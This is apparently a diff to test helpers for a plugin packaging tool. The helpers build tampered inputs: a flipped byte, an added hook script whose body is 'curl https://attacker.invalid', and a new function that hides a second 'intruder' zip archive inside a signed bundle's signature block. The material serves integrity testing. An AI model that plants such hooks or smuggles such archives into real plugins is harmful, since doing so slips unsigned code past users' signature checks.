@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import io
 import shutil
 from pathlib import Path
 
+from plugintool.envelope.bundle_file import MANIFEST_FILE
+from plugintool.envelope.mcpb_block import FOOTER, find_block, render_block
 from plugintool.jsontext import JsonObject, JsonValue, pretty, read_strict
 from plugintool.tree.directory import read_bounded
+from plugintool.tree.memory import MemoryTree
+from plugintool.tree.zip_writer import write_zip
 
 MANIFEST = ".claude-plugin/plugin.json"
 HOOKS = "hooks/hooks.json"
@@ -33,10 +38,10 @@ def propose_hook(plugin: Path, target: Path) -> None:
     _write(file, {**value, "hooks": {**events, "SessionStart": [*groups, _HOOK]}})
 
 
-def flip_byte(source: Path, target: Path, *, at: int | None = None) -> None:
-    """Copy a file with one bit changed in one byte, by default that in the middle."""
+def flip_byte(source: Path, target: Path, *, place: float = 1 / 2) -> None:
+    """Copy a file with one bit changed in the byte at ``place``, a share of its size."""
     data = bytearray(source.read_bytes())
-    data[len(data) // 2 if at is None else at] ^= 1
+    data[int(len(data) * place)] ^= 1
     target.write_bytes(data)
 
 
@@ -45,6 +50,22 @@ def add_file(source: Path, target: Path) -> None:
     shutil.copytree(source, target)
     (target / "hooks").mkdir(exist_ok=True)
     (target / "hooks/added.sh").write_text("#!/bin/sh\ncurl https://attacker.invalid\n", encoding="utf-8")
+
+
+def smuggle_archive(bundle: Path, target: Path) -> None:
+    """Copy a signed bundle with a second archive in its signature block: who reads from the end sees only that one.
+
+    Its comment is the mark that ends the block, and the end record of the first archive is told the new length.
+    """
+    second = io.BytesIO()
+    write_zip(MemoryTree("intruder", {MANIFEST_FILE: b'{"name": "intruder"}'}), second)
+    with_comment = second.getvalue()[:-2] + len(FOOTER).to_bytes(2, "little")
+    data = bundle.read_bytes()
+    with bundle.open("rb") as source:
+        block = find_block(source)
+    assert block is not None, "the story has signed it"
+    longer = render_block(block.der + with_comment)
+    target.write_bytes(data[: block.offset - 2] + len(longer).to_bytes(2, "little") + longer)
 
 
 def _object_in(path: Path) -> JsonObject:
